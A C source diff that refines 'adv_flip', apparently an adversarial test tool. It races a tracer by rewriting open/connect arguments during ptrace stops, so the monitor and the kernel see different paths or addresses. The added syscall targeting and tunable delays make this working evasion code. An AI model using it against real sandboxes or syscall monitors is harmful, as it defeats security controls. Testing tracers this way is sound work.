@@ -1,6 +1,7 @@
 /* Argument swapping ("Phantom" attacks): a second thread rewrites the syscall's argument in
  * step with the tracer's stop (it watches /proc/self/task/TID/stat for the traced thread's 't'
- * state), so the tracer reads one value and the kernel another. Usage:
+ * state, and its /proc syscall file for the syscall it attacks), so the tracer reads one
+ * value and the kernel another. Usage:
  *   adv_flip open PATH_A PATH_B N      N opens of a buffer flipped between two paths of the same
  *                                      length; prints opened=<one letter per open: A, B, or E>
  *                                      (from the inode of what was opened)
@@ -29,15 +30,25 @@ static struct sockaddr_in addr_a, addr_b;
 static volatile struct sockaddr_in addrbuf;
 static int mode_connect;
 
-static char state_of(pid_t tid)
+static int statfd = -1, sysfd = -1;
+static long target_nr, flip_delay;
+
+/* The syscall the traced thread is in (its /proc syscall file), -1 when running. */
+static long syscall_of(void)
 {
-    char p[64], buf[512];
-    snprintf(p, sizeof p, "/proc/self/task/%d/stat", (int)tid);
-    int fd = open(p, O_RDONLY | O_CLOEXEC);
-    if (fd < 0)
-        return '?';
-    ssize_t n = read(fd, buf, sizeof buf - 1);
-    close(fd);
+    char buf[256];
+    ssize_t n = pread(sysfd, buf, sizeof buf - 1, 0);
+    if (n <= 0 || buf[0] < '0' || buf[0] > '9')
+        return -1;
+    buf[n] = '\0';
+    return strtol(buf, NULL, 10);
+}
+
+/* The traced thread's state letter (pread of its stat file: no open per look). */
+static char state_of(void)
+{
+    char buf[512];
+    ssize_t n = pread(statfd, buf, sizeof buf - 1, 0);
     if (n <= 0)
         return '?';
     buf[n] = '\0';
@@ -53,16 +64,19 @@ static void put(int b)
         memcpy((void *)pathbuf, b ? path_b : path_a, strlen(path_a) + 1);
 }
 
-/* The flipper opens /proc files itself: its own opens stop too, which only slows it. */
 static void *flipper(void *arg)
 {
     (void)arg;
     while (!atomic_load(&done)) {
-        if (state_of(victim) != 't')
+        if (state_of() != 't' || (target_nr >= 0 && syscall_of() != target_nr))
             continue;
-        while (!atomic_load(&done) && state_of(victim) == 't')
-            ; /* the tracer reads the argument now */
-        put(1); /* leaving the stop: the kernel reads it now */
+        /* stopped: the tracer reads the argument in the first microseconds of the stop; the
+         * kernel reads it again once the thread leaves the stop */
+        for (volatile long spin = 0; spin < flip_delay; spin++)
+            ;
+        put(1);
+        while (!atomic_load(&done) && state_of() == 't')
+            ;
         for (volatile int spin = 0; spin < 2000; spin++)
             ;
         put(0);
@@ -120,6 +134,18 @@ int main(int argc, char **argv)
     }
     put(0);
     victim = (pid_t)syscall(SYS_gettid);
+    char sp[64];
+    snprintf(sp, sizeof sp, "/proc/self/task/%d/stat", (int)victim);
+    statfd = open(sp, O_RDONLY | O_CLOEXEC);
+    snprintf(sp, sizeof sp, "/proc/self/task/%d/syscall", (int)victim);
+    sysfd = open(sp, O_RDONLY | O_CLOEXEC);
+    if (statfd < 0 || sysfd < 0)
+        return 1;
+    /* ADV_FLIP_SYSCALL=0: flip at every stop, not only the attacked syscall's;
+     * ADV_FLIP_DELAY: busy-loop iterations between seeing the stop and flipping */
+    const char *ev = getenv("ADV_FLIP_SYSCALL");
+    target_nr = ev && !strcmp(ev, "0") ? -1 : mode_connect ? SYS_connect : SYS_openat;
+    flip_delay = getenv("ADV_FLIP_DELAY") ? atol(getenv("ADV_FLIP_DELAY")) : mode_connect ? 8000 : 3000;
     pthread_t th;
     pthread_create(&th, NULL, flipper, NULL);
     char *seq = malloc((size_t)n + 1);
